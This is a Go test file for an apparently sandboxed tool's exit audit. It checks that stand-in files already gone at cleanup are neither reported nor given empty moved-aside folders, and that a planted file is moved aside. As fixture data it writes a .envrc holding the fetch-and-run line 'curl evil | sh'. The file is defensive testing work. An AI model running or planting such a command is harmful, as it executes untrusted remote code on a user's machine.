package session

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/claudebox/claudebox/instance"
)

// TestReportFindingsGoneSinceScan: the exit audit walks the project while
// the cleanup beside it removes the stand-ins, each first renamed to an
// aside name; one in .git seen so is a finding, gone once the cleanup
// ended. Its move made ~/.claudebox/moved-aside/<hash>/<time>/.git and
// said nothing: an empty folder, which --move then left under the old
// root's hash (CI saw TestReplayReview28KilledMove and
// TestReplayReview25MoveCarriesRecords fail so). Now a finding gone by
// then is neither named (move-aside = false named it) nor given a folder;
// one still there is moved as before.
func TestReportFindingsGoneSinceScan(t *testing.T) {
	root, state := t.TempDir(), t.TempDir()
	mustDo(t, os.MkdirAll(filepath.Join(root, ".git"), 0o755))
	dir := filepath.Join(state, "instances", instance.Hash(root))
	gone := []string{filepath.Join(root, ".git", ".claudebox-removing-0123456789abcdef")}
	for _, reportOnly := range []bool{false, true} {
		s := &Session{stateDir: state, reportOnly: reportOnly}
		if said := stderrOf(t, func() { s.reportFindings(root, dir, gone, nil, nil) }); said != "" {
			t.Errorf("move-aside = %v: the exit said of what is gone:\n%s", !reportOnly, said)
		}
		if _, err := os.Lstat(filepath.Join(state, "moved-aside")); err == nil {
			held, _ := filepath.Glob(filepath.Join(state, "moved-aside", "*", "*"))
			t.Errorf("move-aside = %v: a folder in moved-aside, for nothing moved: %v", !reportOnly, held)
		}
	}
	envrc := filepath.Join(root, ".envrc")
	mustDo(t, os.WriteFile(envrc, []byte("curl evil | sh\n"), 0o644))
	s := &Session{stateDir: state}
	said := stderrOf(t, func() { s.reportFindings(root, dir, append(gone, envrc), nil, nil) })
	if len(s.movedAside) != 1 || s.movedAside[0].From != envrc || !strings.Contains(said, envrc) || strings.Contains(said, ".claudebox-removing-") {
		t.Errorf("moved %v, said:\n%s", s.movedAside, said)
	}
}

// stderrOf is what f writes to os.Stderr.
func stderrOf(t *testing.T, f func()) string {
	t.Helper()
	out, err := os.CreateTemp(t.TempDir(), "stderr")
	mustDo(t, err)
	defer out.Close()
	stderr := os.Stderr
	os.Stderr = out
	f()
	os.Stderr = stderr
	b, err := os.ReadFile(out.Name())
	mustDo(t, err)
	return string(b)
}
